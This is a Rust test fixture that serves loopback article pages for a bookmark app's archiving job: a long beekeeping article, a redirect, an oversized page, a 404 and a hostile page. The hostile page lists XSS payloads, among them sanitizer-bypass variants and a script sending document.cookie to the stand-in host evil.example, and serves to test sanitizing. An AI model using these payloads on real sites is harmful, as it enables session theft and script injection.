//! A small web site of article pages on loopback, for what the bookmarks' archiving job fetches:
//! a long article with headings and two images (around it a navigation bar, a footer, comments,
//! and inside it a script, an event handler, an iframe, a form and inline styles), the same
//! article behind a redirect, a page over 5 MB, a 404, a page written to attack whoever shows
//! it, and an article whose images are on a second loopback site. Both sites count every
//! request, so tests can see what Porch fetched and how often.
//!
//! `/page/<slug>` is a short article titled after its slug, for tests that need many bookmarks.

use std::net::TcpListener;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use super::{Answer, jpeg, png, serve_on};

/// The long article's title, as its `<title>`, `og:title` and `<h1>` give it.
pub const LONG_TITLE: &str = "The Slow Craft of Keeping Bees in a Windy Valley";
/// How many paragraphs the long article has.
pub const LONG_PARAGRAPHS: usize = 50;
/// A word that appears in the long article and nowhere else (not in any test's post or title).
pub const ARTICLE_ONLY_WORD: &str = "quillbrackenhive";
/// Text of the page around the long article, which a readable copy leaves out.
pub const NAV_TEXT: &str = "Subscribe to the Valley Gazette newsletter";
pub const COMMENT_TEXT: &str = "Cheap replica watches at wholesale prices";
pub const FOOTER_TEXT: &str = "Copyright Valley Gazette Publishing Limited";

/// The hostile page's title: HTML in a title, which must be shown as text.
pub const HOSTILE_TITLE: &str = "Hostile <script>alert('title')</script> page";
/// Text of the hostile page's article that an archive keeps.
pub const HOSTILE_TEXT: &str = "The river crossing at the old mill is safest in late summer";

/// The title of the article whose images are on the second site.
pub const ELSEWHERE_TITLE: &str = "Photographs from the Northern Ridge Walk";
pub const ELSEWHERE_TEXT: &str = "The ridge path climbs steadily for the first three miles";

/// The HTML and the plain text of each paragraph of the long article.
pub fn long_paragraphs() -> Vec<(String, String)> {
    const SUBJECTS: &[&str] = &[
        "the oldest hive by the orchard wall",
        "a swarm that settled in the hawthorn",
        "the queen marked with a blue dot",
        "the frames of drawn comb from last year",
        "the smoker that never stays lit",
        "a neighbour who keeps chickens",
        "the heather honey from the upper field",
        "the wax moth that came in July",
        "a colony that refused to draw foundation",
        "the long rains of early June",
    ];
    const TURNS: &[&str] = &[
        "taught me more than any book",
        "needed patience, and then more patience",
        "changed how I plan the spring inspections",
        "was a surprise, though it should not have been",
        "reminded me that bees keep their own calendar",
    ];
    (0..LONG_PARAGRAPHS)
        .map(|i| {
            let subject = SUBJECTS[i % SUBJECTS.len()];
            let turn = TURNS[(i / SUBJECTS.len()) % TURNS.len()];
            let n = i + 1;
            let extra = if i == 17 {
                format!(" The beekeepers here call it {ARTICLE_ONLY_WORD}, after the bracken.")
            } else {
                String::new()
            };
            let text = format!(
                "Note {n}: in the valley, {subject} {turn}. The wind comes down from the ridge \
                 most afternoons, so the hives face east, sheltered by a hedge of beech and holly, \
                 and the entrances are narrowed before the first frost.{extra}"
            );
            // Some paragraphs carry inline markup, which the plain text does not show.
            let html = match i % 5 {
                0 => text.replacen(subject, &format!("<em>{subject}</em>"), 1),
                1 => text.replacen(
                    "the hives face east",
                    "the hives face <a href=\"/page/hive-orientation\">east</a>",
                    1,
                ),
                2 => text.replacen("beech and holly", "<strong>beech and holly</strong>", 1),
                _ => text.clone(),
            };
            (html, text)
        })
        .collect()
}

fn long_page() -> String {
    let mut article = String::new();
    for (i, (html, _)) in long_paragraphs().iter().enumerate() {
        if i % 10 == 0 {
            article.push_str(&format!("<h2>Part {}: the season turns</h2>\n", i / 10 + 1));
        }
        // Dangerous or foreign things inside the article itself, where only sanitizing removes
        // them.
        let p = match i {
            3 => format!("<p onclick=\"alert('clicked')\">{html}</p>"),
            7 => format!("<p style=\"color: red; font-size: 40px\">{html}</p>"),
            11 => format!("<p>{html} <a href=\"javascript:alert('link')\">More</a>.</p>"),
            _ => format!("<p>{html}</p>"),
        };
        article.push_str(&p);
        article.push('\n');
        match i {
            5 => article.push_str(
                "<figure><img src=\"/img/a.png\" alt=\"Hives at dawn\" width=\"640\" height=\"480\">\
                 <figcaption>Hives at dawn, facing east.</figcaption></figure>\n",
            ),
            9 => article.push_str("<script>document.title = 'script ran';</script>\n"),
            14 => article.push_str(
                "<iframe src=\"https://video.example/embed/bees\" width=\"560\" height=\"315\"></iframe>\n",
            ),
            21 => article.push_str(
                "<figure><img src=\"/img/b.jpg\" alt=\"A frame of capped honey\" width=\"800\" height=\"600\">\
                 <figcaption>A frame of capped honey.</figcaption></figure>\n",
            ),
            26 => article.push_str(
                "<form action=\"https://collector.example/subscribe\" method=\"post\">\
                 <input name=\"email\" type=\"email\"><button>Subscribe</button></form>\n",
            ),
            _ => {}
        }
    }
    format!(
        r#"<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>{LONG_TITLE}</title>
<meta property="og:title" content="{LONG_TITLE}">
<meta property="og:site_name" content="Valley Gazette">
<meta name="author" content="Marta Hale">
<meta property="article:published_time" content="2024-05-02T08:00:00Z">
<style>body {{ font-family: serif; }}</style>
<script src="https://tracker.example/t.js"></script>
</head>
<body>
<header>
<nav class="site-nav"><ul>
<li><a href="/">Home</a></li><li><a href="/page/news">News</a></li>
<li><a href="/page/about">About</a></li><li><a href="/page/subscribe">{NAV_TEXT}</a></li>
</ul></nav>
</header>
<main>
<article class="post">
<h1>{LONG_TITLE}</h1>
<p class="byline">By Marta Hale, 2 May 2024</p>
{article}
</article>
<section id="comments" class="comments">
<h3>3 comments</h3>
<div class="comment"><p>{COMMENT_TEXT}, click here.</p></div>
<div class="comment"><p>Lovely post!</p></div>
<div class="comment"><p>First!</p></div>
</section>
</main>
<aside class="sidebar"><h3>Popular</h3><ul><li><a href="/page/popular">Ten tips</a></li></ul></aside>
<footer class="site-footer"><p>{FOOTER_TEXT}. All rights reserved.</p></footer>
<script>window.analytics = true;</script>
</body>
</html>
"#
    )
}

/// An article of ordinary length, as `/page/<slug>` and `/elsewhere` serve them.
fn short_article(title: &str, lead: &str, extra: &str) -> String {
    let paragraphs: String = (1..=8)
        .map(|n| {
            format!(
                "<p>{lead}, and part {n} of the story goes on from there, with enough words in \
                 it, commas too, that a reader of articles takes it for one.</p>\n"
            )
        })
        .collect();
    format!(
        "<!doctype html><html><head><meta charset=\"utf-8\"><title>{title}</title></head>\
         <body><nav><a href=\"/\">Home</a></nav><article><h1>{title}</h1>\n{paragraphs}{extra}\
         </article><footer>Small print</footer></body></html>"
    )
}

fn hostile_page() -> String {
    let escaped_title = HOSTILE_TITLE
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;");
    let paragraphs: String = (1..=8)
        .map(|n| {
            format!(
                "<p onmouseover=\"alert('p{n}')\">{HOSTILE_TEXT}, note {n}: the water is low, \
                 the stones are dry, and the path on the far side is easy to find.</p>\n"
            )
        })
        .collect();
    format!(
        r#"<!doctype html>
<html>
<head>
<meta charset="utf-8">
<title>{escaped_title}</title>
<meta name="author" content="&lt;img src=x onerror=alert('author')&gt;">
<meta http-equiv="refresh" content="30;url=https://evil.example/">
<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
</head>
<body onload="alert('body')">
<article>
<h1 onclick="alert('h1')">A perfectly ordinary article</h1>
{paragraphs}
<p><a href="javascript:alert('plain')">Read more</a> and
<a href="JaVaScRiPt:alert('case')">this</a> and
<a href="&#106;avascript:alert('entity')">that</a> and
<a href="  javascript:alert('spaces')">the other</a> and
<a href="data:text/html,&lt;script&gt;alert('data')&lt;/script&gt;">a data link</a>.</p>
<svg onload="alert('svg')" width="10" height="10"><circle r="5"/><script>alert('svg script')</script></svg>
<img src="/img/missing.png" onerror="alert('img')">
<p>Before the script.<script>alert('inline')</script> After the script.</p>
<div onmouseover="alert('div')"><p>The crossing has a handrail on the upstream side, and a bench.</p></div>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">
<iframe srcdoc="&lt;script&gt;alert('srcdoc')&lt;/script&gt;"></iframe>
<form action="javascript:alert('form')"><input name="q" onfocus="alert('focus')" autofocus></form>
<style>article {{ display: none }}</style>
<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></p></noscript>
<p><a href="/page/safe" onclick="alert('a')" style="position:fixed;top:0">A safe link</a> to end with.</p>
</article>
</body>
</html>
"#
    )
}

/// The second site: images only.
pub struct ImageHost {
    pub base: String,
    requests: Arc<Mutex<Vec<String>>>,
}

impl ImageHost {
    /// How many requests asked for `path` (query string ignored).
    pub fn count(&self, path: &str) -> usize {
        count(&self.requests, path)
    }

    pub fn requests(&self) -> Vec<String> {
        self.requests.lock().unwrap().clone()
    }
}

pub struct ArticleSite {
    pub base: String,
    /// Where `/elsewhere` keeps its images.
    pub images: ImageHost,
    requests: Arc<Mutex<Vec<String>>>,
}

impl ArticleSite {
    pub fn start() -> ArticleSite {
        let images = start_image_host();
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind a loopback port");
        let base = format!("http://{}", listener.local_addr().unwrap());
        let requests = Arc::new(Mutex::new(Vec::new()));
        let log = requests.clone();
        let pages = Pages {
            revised_asked: AtomicUsize::new(0),
            long: long_page().into_bytes(),
            hostile: hostile_page().into_bytes(),
            huge: huge_page(),
            elsewhere: short_article(
                ELSEWHERE_TITLE,
                ELSEWHERE_TEXT,
                &format!(
                    "<figure><img src=\"{0}/photos/c.png\" alt=\"The cairn\" width=\"320\" height=\"240\">\
                     <figcaption>The cairn at the top.</figcaption></figure>\n\
                     <p><img src=\"{0}/photos/d.jpg\" alt=\"Looking back\" width=\"400\" height=\"300\"></p>\n\
                     <p>The way down is by the eastern spur, steeper, with a view of the lake.</p>",
                    images.base
                ),
            )
            .into_bytes(),
            a_png: png(640, 480),
            b_jpeg: jpeg(800, 600),
        };
        serve_on(listener, move |target| {
            log.lock().unwrap().push(target.to_string());
            pages.route(target)
        });
        ArticleSite {
            base,
            images,
            requests,
        }
    }

    /// The absolute URL of a path on this site.
    pub fn url(&self, path: &str) -> String {
        format!("{}{path}", self.base)
    }

    /// How many requests asked for `path` (query string ignored).
    pub fn count(&self, path: &str) -> usize {
        count(&self.requests, path)
    }

    /// Every request target received, in order.
    pub fn requests(&self) -> Vec<String> {
        self.requests.lock().unwrap().clone()
    }
}

fn count(requests: &Mutex<Vec<String>>, path: &str) -> usize {
    requests
        .lock()
        .unwrap()
        .iter()
        .filter(|t| t.split('?').next() == Some(path))
        .count()
}

struct Pages {
    /// How many times `/revised` was asked for: the first answer is its first version.
    revised_asked: AtomicUsize,
    long: Vec<u8>,
    hostile: Vec<u8>,
    huge: Vec<u8>,
    elsewhere: Vec<u8>,
    a_png: Vec<u8>,
    b_jpeg: Vec<u8>,
}

fn html(body: &[u8]) -> Answer {
    (
        200,
        vec![("Content-Type".into(), "text/html; charset=utf-8".into())],
        body.to_vec(),
    )
}

fn image(content_type: &str, body: &[u8]) -> Answer {
    (
        200,
        vec![("Content-Type".into(), content_type.into())],
        body.to_vec(),
    )
}

fn not_found() -> Answer {
    (
        404,
        vec![("Content-Type".into(), "text/html".into())],
        b"<!doctype html><title>Not found</title><h1>Not found</h1><p>There is no such page here.</p>"
            .to_vec(),
    )
}

impl Pages {
    fn route(&self, target: &str) -> Answer {
        let path = target.split('?').next().unwrap_or("/");
        match path {
            "/long" => html(&self.long),
            "/moved" => (302, vec![("Location".into(), "/long".into())], Vec::new()),
            "/huge" => html(&self.huge),
            "/hostile" => html(&self.hostile),
            "/elsewhere" => html(&self.elsewhere),
            "/revised" => {
                let first = self.revised_asked.fetch_add(1, Ordering::SeqCst) == 0;
                html(revised_page(first).as_bytes())
            }
            "/img/a.png" => image("image/png", &self.a_png),
            "/img/b.jpg" => image("image/jpeg", &self.b_jpeg),
            p if p.starts_with("/page/") && p.len() > "/page/".len() => {
                let slug = &p["/page/".len()..];
                let title = slug.replace('-', " ");
                html(short_article(&title, &format!("This page is about {title}"), "").as_bytes())
            }
            _ => not_found(),
        }
    }
}

/// The title of `/revised`, an article that changes after it is first read.
pub const REVISED_TITLE: &str = "Notes from the House by the Ford";
/// Paragraphs of `/revised`'s first version. The second adds an opening paragraph, drops the
/// third (`REVISED_DROPPED`), and spaces the others differently; "the eaves" is in two.
pub const REVISED_PARAGRAPHS: [&str; 5] = [
    "The garden gate was painted green in April, after the long winter.",
    "Swallows nest under the eaves every summer, and leave in September.",
    "The old well has been covered since the flood of the wet year.",
    "Rain drips from the eaves all winter and wears a groove in the step.",
    "The ford is shallow enough to cross on foot by the end of July.",
];
pub const REVISED_DROPPED: usize = 2;

fn revised_page(first: bool) -> String {
    let mut paragraphs: Vec<String> = REVISED_PARAGRAPHS
        .iter()
        .enumerate()
        .filter(|&(i, _)| first || i != REVISED_DROPPED)
        .map(|(_, p)| {
            if first {
                format!("<p>{p}</p>")
            } else {
                format!("<p>\n  {}\n</p>", p.replace(", ", ",\n   "))
            }
        })
        .collect();
    if !first {
        paragraphs.insert(
            0,
            "<p>A new opening paragraph, written later, that moves everything after it along \
             and mentions the eaves once more in passing.</p>"
                .to_string(),
        );
    }
    format!(
        "<!doctype html><html><head><meta charset=\"utf-8\"><title>{REVISED_TITLE}</title></head>\
         <body><article><h1>{REVISED_TITLE}</h1>\n{}\n</article></body></html>",
        paragraphs.join("\n")
    )
}

/// An article page of a little over 6 MB: past the 5 MB Porch reads at most.
fn huge_page() -> Vec<u8> {
    let mut page = String::from(
        "<!doctype html><html><head><meta charset=\"utf-8\"><title>A very long page</title>\
         </head><body><article><h1>A very long page</h1>\n",
    );
    let paragraph = "<p>This paragraph is one of many thousands, and it says the same thing \
                     each time, padding the page well past what anyone would archive.</p>\n";
    while page.len() < 6 * 1024 * 1024 {
        page.push_str(paragraph);
    }
    page.push_str("</article></body></html>");
    page.into_bytes()
}

fn start_image_host() -> ImageHost {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind a loopback port");
    let base = format!("http://{}", listener.local_addr().unwrap());
    let requests = Arc::new(Mutex::new(Vec::new()));
    let log = requests.clone();
    let c_png = png(320, 240);
    let d_jpeg = jpeg(400, 300);
    serve_on(listener, move |target| {
        log.lock().unwrap().push(target.to_string());
        match target.split('?').next().unwrap_or("/") {
            "/photos/c.png" => image("image/png", &c_png),
            "/photos/d.jpg" => image("image/jpeg", &d_jpeg),
            _ => not_found(),
        }
    });
    ImageHost { base, requests }
}
